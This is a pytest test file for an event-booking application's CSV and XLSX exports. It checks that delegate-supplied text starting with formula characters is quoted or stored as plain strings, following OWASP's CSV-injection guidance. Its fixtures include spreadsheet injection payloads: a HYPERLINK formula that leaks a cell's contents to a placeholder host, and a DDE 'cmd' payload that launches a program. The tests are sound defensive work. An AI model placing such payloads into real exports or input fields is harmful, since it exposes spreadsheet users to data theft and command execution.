"""No export turns a delegate's text into a formula (OWASP's CSV-injection
guidance): the roster's CSV and XLSX and the dashboard's CSV, each read back."""

import csv
import io
import zipfile

import pytest
from django.contrib.auth.models import User
from openpyxl import load_workbook

from majlis.backoffice.models import StaffRole
from majlis.bookings.services import Actor, booking_create
from majlis.core.spreadsheets import FORMULA_STARTS
from majlis.testing.factories import EventFactory, ParticipantFactory, SessionFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://x/?"&C2,"a")'
HOSTILE = {
    # name: (organisation, access-needs note)
    HYPERLINK: ("+1", "-2+3"),
    "@SUM(A1)": ("\t=1+1", "=1+1"),
    "-Omar": ("\r=cmd|' /C calc'!A0", "@x"),
}
HARMLESS = ("Jean-Pierre Al-Amin", "Ministry of Labour", "Step-free access")
NUMBER_AS_TEXT = "-5"


@pytest.fixture
def secretariat(client):
    event = EventFactory(slug="casa", is_demo=True)
    session = SessionFactory(
        event=event, code="talk", capacity=10, title_en='=HYPERLINK("http://x/")'
    )
    rows = [*((n, o, a) for n, (o, a) in HOSTILE.items()), HARMLESS]
    rows.append(("Lina Haddad", NUMBER_AS_TEXT, ""))
    for name, organisation, note in rows:
        person = ParticipantFactory(event=event, name=name, organisation=organisation)
        booking_create(
            participant=person,
            session=session,
            actor=Actor.delegate(),
            access_needs_note=note,
        )
    user = User.objects.create_user("sec", "sec@example.org", "pw-123-long")
    StaffRole.objects.create(user=user, event=event, role="secretariat")
    client.force_login(user)
    return client


def read_csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8").lstrip("\ufeff"))))


def test_the_roster_csv_writes_every_formula_like_text_as_text(secretariat):
    content = secretariat.get("/en/backoffice/casa/s/talk/roster.csv").content
    rows = read_csv(content)
    assert not [f for row in rows for f in row if f.startswith(FORMULA_STARTS)]
    by_name = {row[2]: row for row in rows[1:]}
    for name, (organisation, note) in HOSTILE.items():
        row = by_name["'" + name]
        assert (row[4], row[10]) == ("'" + organisation, "'" + note)
    # A hyphen inside a text is left alone; a text reading as a negative
    # number gets the quote OWASP asks for; nothing else changes.
    assert by_name[HARMLESS[0]][4] == HARMLESS[1]
    assert by_name[HARMLESS[0]][10] == HARMLESS[2]
    assert by_name["Lina Haddad"][4] == "'-5"
    # Every field between double quotes, so that a spreadsheet program that
    # splits on ";" (French, Spanish) finds no formula after one either.
    text = content.decode("utf-8")
    assert text.startswith('\ufeff"Status","Position","Name"')
    assert '"Jean-Pierre Al-Amin","delegate' in text and '"\'-5"' in text


def test_the_roster_xlsx_keeps_every_text_a_string_cell(secretariat):
    content = secretariat.get("/en/backoffice/casa/s/talk/roster.xlsx").content
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        assert "<f>" not in package.read("xl/worksheets/sheet1.xml").decode()
    sheet = load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    by_name = {row[2].value: row for row in sheet.iter_rows(min_row=2)}
    for name, (organisation, note) in HOSTILE.items():
        row = by_name[name]  # the text itself, unchanged
        for cell, text in ((row[2], name), (row[4], organisation), (row[10], note)):
            # (XML reads a carriage return back as a line feed.)
            expected = text.replace("\r", "\n")
            assert (cell.value, cell.data_type, cell.quotePrefix) == (
                expected,
                "s",
                True,
            )
    harmless = by_name[HARMLESS[0]]
    assert (harmless[4].value, harmless[10].value) == HARMLESS[1:]
    assert not harmless[2].quotePrefix
    assert (by_name["Lina Haddad"][4].value, by_name["Lina Haddad"][4].data_type) == (
        NUMBER_AS_TEXT,
        "s",
    )


def test_the_dashboard_csv_writes_a_session_title_as_text(secretariat):
    content = secretariat.get("/en/backoffice/casa/dashboard/?format=csv").content
    rows = read_csv(content)
    assert not [f for row in rows for f in row if f.startswith(FORMULA_STARTS)]
    assert rows[1][:3] == ["'" + '=HYPERLINK("http://x/")', "10", "5"]
